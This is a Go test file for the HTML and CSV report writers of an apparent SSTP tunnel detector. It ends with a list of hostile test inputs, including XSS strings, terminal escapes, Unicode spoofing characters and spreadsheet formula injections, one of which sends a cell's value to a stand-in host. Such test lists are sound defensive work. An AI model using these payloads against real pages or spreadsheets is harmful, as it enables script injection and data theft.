package report_test

import (
	"net/netip"
	"reflect"
	"strings"
	"testing"
	"time"

	"sstpwarden/inspect"
	"sstpwarden/pcaps/report"
	"sstpwarden/policies/event"
)

var (
	noon     = time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)
	settings = inspect.Settings{Prior: -40, Suspected: 45, Cleared: -20}
)

// a writer of events, as both reports are.
type writer interface {
	Event(*event.Event) error
	End(*event.Summary) error
}

// fill sets everything that v holds: texts to s, numbers to 3, lists to two
// elements, times to noon.
func fill(v reflect.Value, s string) {
	switch v.Interface().(type) {
	case event.Time:
		v.Set(reflect.ValueOf(event.NewTime(noon)))
		return
	case netip.Addr:
		v.Set(reflect.ValueOf(netip.MustParseAddr("192.0.2.7")))
		return
	case inspect.Verdict:
		v.Set(reflect.ValueOf(inspect.VerdictConfirmed))
		return
	case inspect.Kind:
		v.Set(reflect.ValueOf(inspect.KindTunnel))
		return
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(s)
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Int, reflect.Int64:
		v.SetInt(3)
	case reflect.Uint16, reflect.Uint64:
		v.SetUint(3)
	case reflect.Float64:
		v.SetFloat(3)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), s)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		for i := range v.Len() {
			fill(v.Index(i), s)
		}
	case reflect.Map:
		value := reflect.New(v.Type().Elem()).Elem()
		fill(value, s)
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(reflect.ValueOf(s), value)
	case reflect.Struct:
		for _, field := range v.Fields() {
			fill(field, s)
		}
	default:
		panic("fill: " + v.Type().String())
	}
}

// filled gives an event and a summary with s in every text.
func filled(s string) (*event.Event, *event.Summary) {
	e, sum := &event.Event{}, &event.Summary{}
	fill(reflect.ValueOf(e).Elem(), s)
	fill(reflect.ValueOf(sum).Elem(), s)
	return e, sum
}

// tunnel is an ordinary confirmed tunnel.
func tunnel() *event.Event {
	return &event.Event{
		Timestamp: event.NewTime(noon), EventType: event.TypeSSTP, Version: event.Version,
		FlowID: 2804601116318361, CommunityID: "1:MsPeVQo+eyu0aVzpzGW1e+CX7XA=",
		SrcIP: netip.MustParseAddr("10.9.0.2"), SrcPort: 59612,
		DestIP: netip.MustParseAddr("10.9.0.1"), DestPort: 443,
		Proto: "TCP", AppProto: "tls", Seen: "both", Duration: 75.5,
		PktsToServer: 70, PktsToClient: 50, BytesToServer: 9400, BytesToClient: 1234567,
		Source: "captures/a.pcap",
		Server: &event.Server{Name: "vpn.example.test", IP: netip.MustParseAddr("10.9.0.1"), Port: 443},
		Detection: event.Detection{
			Verdict: inspect.VerdictConfirmed, Kind: inspect.KindTunnel, Score: 104, Probability: 1, Client: "sstpc", Server: "softether",
			Evidence: []inspect.Evidence{
				{Rule: "tls.no_alpn", Weight: 4, Detail: "the client names no protocol in ALPN"},
				{Rule: "http.sstp_duplex_post", Weight: 40, Detail: "the client asks for an SSTP connection"},
				{Rule: "sstp.control", Weight: 60, Proof: true, Detail: "SSTP control messages of both sides"},
			},
		},
		Decision: &event.Decision{Action: "drop", Reason: "SSTP tunnel to vpn.example.test, read in clear and not sanctioned.", Rule: "sstp.confirmed", Revision: "56dfd49bf6cb"},
		TLS:      &event.TLS{Version: "TLS 1.3", SNI: "vpn.example.test", Opened: true},
		SSTP:     &event.SSTP{Messages: []string{"call_connect_request", "call_connect_ack", "call_connected", "echo_request", "echo_response", "echo_request", "echo_response"}, CryptoBinding: inspect.BindingMatches, HashUsed: "sha256"},
		PPP:      &event.PPP{Auth: "ms-chapv2", User: "alice", Result: "success", ClientIP: netip.MustParseAddr("192.168.30.10")},
		Timeline: []event.Moment{
			{What: "tls_client_hello", At: event.NewTime(noon.Add(3 * time.Millisecond))},
			{What: "evidence tls.control_lengths", At: event.NewTime(noon.Add(20 * time.Millisecond))},
			{What: "ip_up", At: event.NewTime(noon.Add(1500 * time.Millisecond))},
		},
	}
}

// web is a connection that something else was found on.
func web() *event.Event {
	e := tunnel()
	e.FlowID, e.SrcPort = 77, 40000
	e.Timestamp = event.NewTime(noon.Add(time.Minute))
	e.SSTP, e.PPP, e.Timeline = nil, nil, nil
	e.Detection = event.Detection{Verdict: inspect.VerdictCleared, Score: -60, Evidence: []inspect.Evidence{{Rule: "tls.h2_chosen", Weight: -60, Detail: "both sides speak HTTP/2"}}}
	e.Decision = &event.Decision{Action: "allow", Reason: "Not SSTP.", Rule: "sstp.cleared", Revision: "56dfd49bf6cb"}
	return e
}

func summaryOf(events ...*event.Event) *event.Summary {
	s := event.NewSummary()
	s.Files = 1
	for _, e := range events {
		s.Count(e)
	}
	return &s
}

// written gives what a report makes of events.
func written(t *testing.T, begin func(*strings.Builder) writer, s *event.Summary, events ...*event.Event) string {
	t.Helper()
	var b strings.Builder
	w := begin(&b)
	for _, e := range events {
		if err := w.Event(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.End(s); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func page(t *testing.T, s *event.Summary, events ...*event.Event) string {
	t.Helper()
	return written(t, func(b *strings.Builder) writer {
		return report.NewHTML(b, report.HTMLOptions{Program: "sstpwarden 1.0.0", Generated: noon, Settings: settings, RulesRevision: "cc46ce54526c", All: true})
	}, s, events...)
}

func csvText(t *testing.T, events ...*event.Event) string {
	t.Helper()
	return written(t, func(b *strings.Builder) writer { return report.NewCSV(b) }, summaryOf(events...), events...)
}

// nasty are texts that do something where they are not taken care of.
var nasty = map[string]string{
	"element":          `<script>alert(1)</script>`,
	"handler":          `<img src=x onerror=alert(1)>`,
	"end of attribute": `" onmouseover="alert(1)`,
	"end of quote":     `' autofocus onfocus='alert(1)`,
	"end of title":     `</title></svg></style><script>alert(1)</script>`,
	"end of script":    `</script><script>alert(1)//`,
	"comment":          `--><!-- <![CDATA[`,
	"entity":           `&lt;b&gt;&quot;&#x202e;`,
	"template":         `{{.}}{{template "page"}}`,
	"url":              `javascript:alert(1)`,
	"backslashes":      `\u202e\x1b\\`,
	"terminal":         "\x1b]0;title\a\x1b[2J\x9b31m",
	"lines":            "a\r\nb\tc\vd\fe\x00f\u0085g\u2028h\u2029i",
	"direction":        "user\u202egnp.exe\u2066x\u2069\u200f\u061c",
	"invisible":        "vpn\u200b.\u2060exa\u00admple\ufeff.\u180e\u3164\u115f\u2800\U000e0041",
	"look-alike space": "a\u00a0b\u3000c\u2003d",
	"selectors":        "a\ufe0f\U000e0100\u034f",
	"marks":            "Z" + strings.Repeat("\u0310\u0334", 20),
	"mark first":       "\u0301x",
	"private":          "\ue000\U0010ffff",
	"no UTF-8":         "a\xff\xc3(\xed\xa0\x80",
	"formula":          `=HYPERLINK("http://x.example/?"&A1,"open")`,
	"formula +":        `+cmd|' /C calc'!A0`,
	"formula -":        `-2+3`,
	"formula @":        `@SUM(1+1)`,
	"formula after":    `a;=1+1; "=2`,
	"formula tab":      "\t=1+1",
	"formula return":   "\r=1+1",
	"formula wide":     "＝1+1",
	"quotes":           `a","b""c`,
	"long":             strings.Repeat("long<", 5000),
	"long word":        strings.Repeat("w", 20000),
	"long marked":      strings.Repeat("\u202e", 9000),
}
